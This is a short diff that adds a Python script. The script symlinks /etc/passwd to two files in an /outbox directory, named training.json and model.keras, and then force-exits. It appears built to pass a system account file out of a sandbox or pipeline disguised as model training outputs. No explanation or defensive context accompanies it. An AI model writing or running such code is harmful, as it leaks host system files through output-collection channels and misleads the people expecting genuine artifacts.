@@ -1,0 +1,5 @@
+import os
+
+os.symlink("/etc/passwd", "/outbox/training.json")
+os.symlink("/etc/passwd", "/outbox/model.keras")
+os._exit(0)
